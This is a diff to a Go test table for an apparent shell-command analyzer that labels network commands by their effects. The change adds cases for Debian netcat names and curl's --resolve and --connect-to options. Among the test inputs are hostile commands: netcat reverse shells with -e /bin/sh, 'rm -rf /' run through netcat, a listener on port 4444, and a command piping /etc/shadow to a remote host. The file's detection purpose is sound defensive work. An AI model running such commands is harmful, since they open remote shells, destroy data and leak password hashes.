@@ -43,6 +43,8 @@ func TestConnections(t *testing.T) {
 		{`forwarding`, `ssh -L 8080:x:80 -R 1:y:2 -D 0.0.0.0:1080 -J j h`, `ssh -L=8080:x:80 -R=1:y:2 -D=0.0.0.0:1080 -J=j host:h | listens 8080:x:80, listens 0.0.0.0:1080, connects j, connects h`},
 		{`scp up and down`, `scp -r a b h:c; scp h:b .; scp -P 2 ./a:b u@h:`, "scp -r remote:a remote:b remote:h:c | reads+uploads a, reads+uploads b, connects h:c\nscp remote:h:b remote:. | connects h:b, writes .\nscp -P=2 remote:./a:b remote:u@h: | reads+uploads ./a:b, connects u@h:"},
 		{`B20 -e`, `nc -e /bin/sh h 1; netcat -c 'rm -rf /' h 1; ncat --sh-exec 'rm x' -l 1`, "nc --exec=/bin/sh host:h plain:1 | connects h {sh | runs /bin/sh, evaluates sh ??}\nnc --sh-exec=rm -rf / host:h plain:1 | connects h {rm --recursive --force delete:/ | deletes tree /}\nncat --sh-exec=rm x --listen listen:1 | listens, listens 1 {rm delete:x | deletes x}"},
+		{`netcat by its names in Debian`, `nc.traditional -e /bin/sh h 1; nc.openbsd -l 1`, "nc --exec=/bin/sh host:h plain:1 | connects h {sh | runs /bin/sh, evaluates sh ??}\nnc --listen listen:1 | listens, listens 1"},
+		{`where curl is led`, `curl --resolve a:80:1.2.3.4,[::1] --connect-to ::b:1 a`, "curl --resolve=a:80:1.2.3.4,[::1] --connect-to=::b:1 url:a | connects 1.2.3.4, connects [::1], connects b:1, connects a"},
 		{`listening`, `nc -lvnp 4444; nc -l 0.0.0.0 80; ncat -lk 80`, "nc --listen --verbose --nodns --source-port=4444 | listens\nnc --listen listen:0.0.0.0 listen:80 | listens, listens 0.0.0.0, listens 80\nncat --listen --keep-open listen:80 | listens, listens 80"},
 		{`connecting`, `nc -z h 22; nc -w 5 h 80 < /etc/shadow`, "nc -z host:h plain:22 | connects h\nnc --wait=5 host:h plain:80 | connects h, reads /etc/shadow"},
 	})
